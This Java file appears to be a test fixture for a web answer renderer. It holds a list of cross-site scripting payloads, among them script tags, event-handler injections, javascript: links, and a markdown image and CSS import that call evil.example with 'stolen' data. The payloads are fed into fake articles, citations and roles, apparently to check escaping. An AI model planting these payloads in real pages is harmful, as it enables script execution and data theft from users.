package dev.waymark.channel.web;

import dev.waymark.answer.Answer.Grounded;
import dev.waymark.answer.AnswerSentence;
import dev.waymark.answer.Block;
import dev.waymark.answer.Citation;
import dev.waymark.knowledge.Article;
import dev.waymark.knowledge.Knowledge;
import dev.waymark.knowledge.Passage;
import dev.waymark.knowledge.Section;
import dev.waymark.knowledge.Source;
import dev.waymark.knowledge.Span;
import dev.waymark.knowledge.Statement;
import dev.waymark.role.Role;
import dev.waymark.role.RoleCatalogue;
import dev.waymark.text.Offsets;
import java.util.List;
import java.util.Set;

/** What somebody might write where it is shown to others, in the hope that a browser runs it. */
final class Payloads {
    static final List<String> ALL = List.of(
            "<script>alert(1)</script>",
            "<img src=x onerror=alert(1)>",
            "<svg/onload=alert(1)>",
            "\"><iframe srcdoc=\"<script>alert(1)</script>\">",
            "[a link](javascript:alert(1))",
            "![x](https://evil.example/?q=stolen)",
            "</textarea><details open ontoggle=alert(1)>",
            "{{constructor.constructor('alert(1)')()}}",
            "<a href=\"javascript:alert(1)\" autofocus onfocus=alert(1)>x</a>",
            "<style>@import 'https://evil.example/x.css'; * { display: none }</style>");

    private Payloads() {}

    /** An answer all of which, but for the sentence, is the payload. */
    static Grounded answer(String sentence, String payload) {
        Citation citation = Citation.of(
                1,
                article(payload, payload, List.of(), List.of()),
                "Heading " + payload,
                new Offsets(0, payload.length()),
                sources(payload));
        return new Grounded(
                List.of(new AnswerSentence(sentence, List.of(1), Block.PARAGRAPH)),
                List.of(citation),
                List.of(),
                "llm:bad",
                false,
                false,
                0.9,
                List.of("Next " + payload),
                List.of());
    }

    /** One article on one role, all of it the payload; the article's id begins with {@code bad}, the role's is so. */
    static Knowledge knowledge(String payload) {
        String heading = "Duties " + payload;
        String sentence = "A bad hat is responsible for " + payload + " and for nothing else.";
        String text = heading + "\n" + sentence;
        Span span = new Span(
                Span.Kind.SENTENCE, new Offsets(heading.length() + 1, text.length()), 0, 0, -1, sources(payload));
        Section section = new Section(heading, 2, -1, new Offsets(0, text.length()));
        Article article = article(payload, text, List.of(section), List.of(span));
        Statement statement = new Statement(0, span, sentence, Set.of("bad"), Set.of(), sentence);
        Role role = new Role("bad", "Bad hat " + payload, List.of("Alias " + payload), List.of(), List.of(), payload);
        return new Knowledge(
                List.of(article),
                List.of(new Passage(article, 0, List.of(heading), List.of(statement))),
                List.of(),
                RoleCatalogue.of(List.of(role)));
    }

    private static Article article(String payload, String text, List<Section> sections, List<Span> spans) {
        return new Article(
                "bad-" + ALL.indexOf(payload),
                "Title " + payload,
                "Publisher " + payload,
                "javascript:alert(1)",
                "2024",
                List.of(),
                sources(payload),
                text,
                sections,
                spans);
    }

    private static List<Source> sources(String payload) {
        return List.of(new Source("Source " + payload, payload, "javascript:alert(1)", null));
    }
}
